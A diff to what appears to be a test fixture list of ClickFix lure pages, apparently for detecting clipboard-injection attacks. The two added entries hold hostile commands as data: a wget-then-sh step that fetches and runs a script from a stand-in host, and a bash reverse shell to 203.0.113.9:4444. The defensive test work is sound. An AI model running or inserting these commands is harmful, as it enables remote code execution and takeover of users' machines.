@@ -303,6 +303,23 @@ export const CLICKFIX_PAGES: readonly ClickFixPage[] = [
     command: OSASCRIPT,
   },
   { id: 'macos-write', lure: 'macos', path: 'write', when: 'click', frame: 'top', command: MACOS },
+  // A script fetched under its own name, then handed to a shell; a shell handed to another machine.
+  {
+    id: 'macos-fetch-then-run',
+    lure: 'macos',
+    path: 'writeText',
+    when: 'click',
+    frame: 'top',
+    command: 'wget https://check-human.example/update.sh; sh update.sh',
+  },
+  {
+    id: 'linux-reverse-shell',
+    lure: 'macos',
+    path: 'writeText',
+    when: 'click',
+    frame: 'top',
+    command: 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1',
+  },
   // In frames: a check widget from another site, and one the page wrote itself.
   {
     id: 'frame-recaptcha',
